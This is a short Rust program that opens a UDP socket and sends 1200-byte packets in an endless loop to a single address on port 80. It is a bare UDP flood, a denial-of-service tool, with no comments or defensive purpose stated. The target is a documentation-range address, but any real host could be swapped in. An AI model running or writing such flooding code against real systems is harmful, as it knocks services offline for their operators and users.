use std::net::UdpSocket;
fn main() {
    let s = UdpSocket::bind("0.0.0.0:0").unwrap();
    let b = [0u8; 1200];
    loop {
        let _ = s.send_to(&b, "203.0.113.34:80");
    }
}
